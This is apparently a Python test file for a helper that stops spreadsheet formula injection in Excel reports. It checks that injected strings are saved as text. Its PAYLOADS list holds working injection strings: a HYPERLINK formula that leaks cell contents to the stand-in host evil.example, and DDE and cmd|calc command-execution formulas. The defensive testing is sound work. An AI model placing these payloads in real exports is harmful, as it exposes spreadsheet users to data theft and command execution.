"""Formula injection: text from inputs is stored as text, never as a formula (read back from
the saved XML, not just from openpyxl's idea of the cell)."""

from __future__ import annotations

import re
import zipfile

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from zdiag.report.excel_safe import clean_text, column_values, is_risky, plain, safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "%2B1",
    "-",
    "---- ruler ----",
]


def sheet_xml(path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {
            n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")
        }


def assert_no_formulas(path) -> None:
    for name, xml in sheet_xml(path).items():
        assert not re.search(r"<f[ >]", xml), f"formula element in {name}"
        assert "<f/>" not in xml


def test_payloads_are_text_in_a_write_only_sheet(tmp_path):
    path = tmp_path / "p.xlsx"
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    for p in PAYLOADS:
        ws.append([safe_cell(p, ws), safe_cell(p.strip(), ws)])
    wb.save(path)

    assert_no_formulas(path)
    xml = sheet_xml(path)["xl/worksheets/sheet1.xml"]
    assert xml.count('t="inlineStr"') == 2 * len(PAYLOADS)
    back = load_workbook(path)["t"]
    for (a, b), p in zip(back.iter_rows(), PAYLOADS, strict=True):
        # the text is kept exactly (no apostrophe added to the data); a lone CR comes back
        # as LF when openpyxl writes without lxml (XML end-of-line handling)
        assert a.value.replace("\r", "\n") == p.replace("\r", "\n")
        assert a.data_type == "s" and b.data_type == "s"
        assert a.quotePrefix, p  # Excel/LibreOffice keep it text even after an edit
    # quotePrefix lands in styles.xml, referenced by the cells
    with zipfile.ZipFile(path) as z:
        assert 'quotePrefix="1"' in z.read("xl/styles.xml").decode()


def test_plain_openpyxl_would_have_written_a_formula(tmp_path):
    """The control: without safe_cell openpyxl stores '=...' as a formula."""
    path = tmp_path / "raw.xlsx"
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    ws.append(["=cmd|' /C calc'!A0"])
    wb.save(path)
    assert re.search(r"<f[ >]", sheet_xml(path)["xl/worksheets/sheet1.xml"])


def test_safe_values_pass_through_unchanged():
    assert safe_cell(5) == 5 and safe_cell(-5) == -5 and safe_cell(2.5) == 2.5
    assert safe_cell(True) is True
    assert safe_cell(None) is None and safe_cell(pd.NA) is None and safe_cell(float("nan")) is None
    assert safe_cell("plain text") == "plain text"
    assert safe_cell(pd.Timestamp("2024-01-02 03:04:05.123456")).microsecond == 123456
    assert safe_cell([8, 11]) == "8, 11"
    assert plain({"a": 1}) == '{"a": 1}'
    cell = safe_cell("=1+1")
    assert cell.value == "=1+1" and cell.data_type == "s" and cell.quotePrefix


def test_control_characters_removed_and_length_capped():
    assert clean_text("a\x00b\x07c\x1bd\te\nf") == "abcd\te\nf"
    assert len(clean_text("x" * 40_000)) == 32767
    assert is_risky("\tx") and is_risky("@x") and not is_risky("x=1")


def test_column_values_vectorised_marks_only_risky_strings(tmp_path):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    s = pd.Series(["ok", "=1+1", None, "a\x01b", "-3"], dtype=pd.StringDtype("pyarrow"))
    out = column_values(s, ws)
    assert out[0] == "ok" and out[2] is None and out[3] == "ab"
    assert out[1].value == "=1+1" and out[1].data_type == "s"
    assert out[4].value == "-3" and out[4].data_type == "s"
    ints = column_values(pd.Series([1, None, -4], dtype="Int64"), ws)
    assert ints == [1, None, -4]
    floats = column_values(pd.Series([1.5, None, float("inf"), float("-inf")], dtype="Float64"), ws)
    assert floats[0] == 1.5 and floats[1] is None and floats[2] == "inf"
    assert floats[3].value == "-inf" and floats[3].data_type == "s"
    ts = column_values(pd.Series(pd.to_datetime(["2024-01-02 03:04:05.5", None])), ws)
    assert ts[1] is None and ts[0].number_format.endswith(".000")
    objs = column_values(pd.Series([[1, 2], {"table": "packets"}, None, "=x"], dtype=object), ws)
    assert objs[0] == "1, 2" and objs[2] is None and objs[3].data_type == "s"


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=8))
def test_any_text_round_trips_as_text(tmp_path, texts):
    texts = [t for t in texts if clean_text(t).strip() != "" or clean_text(t) != ""]
    path = tmp_path / "h.xlsx"
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    values = column_values(pd.Series(texts, dtype=pd.StringDtype("pyarrow")), ws)
    ws.append(values)
    wb.save(path)
    assert_no_formulas(path)
    row = next(load_workbook(path)["t"].iter_rows()) if texts else []
    got = {c.column - 1: c for c in row if c.value is not None}
    for i, t in enumerate(texts):
        want = clean_text(t)
        if want == "":
            continue
        # XML normalises a lone CR to LF when reading; everything else is kept exactly
        assert got[i].value.replace("\r", "\n") == want.replace("\r", "\n")
        assert got[i].data_type == "s"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_alone(tmp_path, payload):
    path = tmp_path / "one.xlsx"
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    ws.append([safe_cell(payload, ws)])
    wb.save(path)
    assert_no_formulas(path)
    assert load_workbook(path)["t"]["A1"].value.replace("\r", "\n") == payload.replace("\r", "\n")


def _cell_view(v):
    """What ends up in the sheet: a plain value, or a cell's value, type and text flag."""
    if hasattr(v, "data_type"):
        return ("cell", v.value, v.data_type, bool(getattr(v, "quotePrefix", False)))
    return ("plain", type(v).__name__, v)


_TEXT = st.one_of(st.none(), st.sampled_from(PAYLOADS), st.text(max_size=12))
_FLOAT = st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True))
_COLUMNS = st.one_of(
    st.lists(_TEXT, max_size=40).map(lambda v: pd.Series(v, dtype=pd.StringDtype("pyarrow"))),
    st.lists(_TEXT, max_size=40).map(lambda v: pd.Series(v, dtype=object)),
    st.lists(st.one_of(st.none(), st.integers(-(2**62), 2**62)), max_size=40).map(
        lambda v: pd.Series(v, dtype="Int64")
    ),
    st.lists(_FLOAT, max_size=40).map(lambda v: pd.Series(v, dtype="Float64")),
    st.lists(st.floats(), max_size=40).map(lambda v: pd.Series(v, dtype="float64")),
    st.lists(st.one_of(st.none(), st.booleans()), max_size=40).map(
        lambda v: pd.Series(v, dtype="boolean")
    ),
    st.lists(
        st.one_of(st.none(), _TEXT, st.integers(), st.lists(st.integers(), max_size=2)), max_size=40
    ).map(lambda v: pd.Series(v, dtype=object)),  # fmt: skip
)


@settings(max_examples=300, deadline=None)
@given(_COLUMNS)
def test_short_columns_value_by_value_same_as_vectorised(series):
    """A short column is rendered value by value (cheaper); the cells are the ones the
    vectorised path makes."""
    from zdiag.report import excel_safe

    ws = Workbook(write_only=True).create_sheet("t")
    want = [_cell_view(v) for v in excel_safe._vectorised(series, ws)]
    assert [_cell_view(v) for v in column_values(series, ws)] == want
